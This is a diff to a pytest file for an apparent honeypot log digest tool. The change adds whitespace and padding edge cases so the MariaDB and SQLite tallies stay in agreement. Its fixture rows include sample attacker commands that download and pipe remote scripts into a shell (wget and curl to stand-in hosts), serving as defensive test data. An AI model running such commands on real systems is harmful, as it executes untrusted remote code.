@@ -30,10 +30,12 @@ from .conftest import INTERVAL, WINDOW_START
 BUCKET = "rustbucket-a"
 WINDOW = Window.starting(BUCKET, WINDOW_START, INTERVAL)
 LONG_COMMAND = "echo " + "x" * 5000
-USERNAMES = ["root", "Root", "рут", "管理员", "admin\u202e", "user 😈", "", None]
+ROWS_PER_OBJECT = 56
+# "root " is "root" to MariaDB (PAD SPACE) and another name to SQLite: the tallies must agree.
+USERNAMES = ["root", "Root", "root ", "рут", "管理员", "admin\u202e", "user 😈", "", None]
 
 
-@pytest.fixture(params=["mariadb", "sqlite"])
+@pytest.fixture(params=[pytest.param("mariadb", marks=pytest.mark.mariadb), "sqlite"])
 def engine(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Engine]:
     if request.param == "mariadb":
         yield request.getfixturevalue("mysql_engine")
@@ -87,6 +89,7 @@ def hostile_object(number: int, created_at: datetime) -> list[dict[str, Any]]:
         ),
         log_row(BUCKET, created_at, "command", command=LONG_COMMAND + str(number % 2)),
         log_row(BUCKET, created_at, "command", command="uname -a"),
+        log_row(BUCKET, created_at, "command", command="uname -a" + " " * (number % 2)),
         log_row(BUCKET, created_at, "cowrie.command.input", command="UNAME -A"),
         log_row(BUCKET, created_at, "command", command=f"wget http://203.0.113.{number}/x | sh"),
         log_row(BUCKET, created_at, "command_failed", command="curl -s http://x/y | bash"),
@@ -143,12 +146,12 @@ def test_tallies_give_the_digest_the_rows_give(engine: Engine) -> None:
     assert scanned.read_from == "rows"
     assert tallied.as_json() == scanned.as_json()
     # The comparison covers something: the odd values made it into the digest.
-    assert tallied.total_rows == 6 * 55
+    assert tallied.total_rows == 6 * ROWS_PER_OBJECT
     assert tallied.source_ips.distinct > 50
     assert len(tallied.source_ips.items) == 5
     assert "198.51.100.3" not in {item["value"] for item in tallied.new_source_ips.items}
     assert {"root", "Root", "рут"} <= {item["value"] for item in tallied.usernames.items}
-    assert tallied.commands.distinct == 6 + 5
+    assert tallied.commands.distinct >= 11  # 12 on SQLite: "uname -a " is its own
     assert tallied.flagged_commands
 
 
@@ -174,7 +177,7 @@ def test_a_window_with_rows_not_folded_is_digested_from_its_rows(engine: Engine)
 
     assert tallied.read_from == "rows"
     assert tallied.as_json() == scanned.as_json()
-    assert tallied.total_rows == 2 * 55
+    assert tallied.total_rows == 2 * ROWS_PER_OBJECT
 
 
 def test_forgotten_tallies_leave_the_rows(engine: Engine) -> None:
@@ -186,4 +189,4 @@ def test_forgotten_tallies_leave_the_rows(engine: Engine) -> None:
     digest = DigestBuilder(engine).build(WINDOW, "192.0.2.10")
 
     assert digest.read_from == "rows"
-    assert digest.total_rows == 55
+    assert digest.total_rows == ROWS_PER_OBJECT
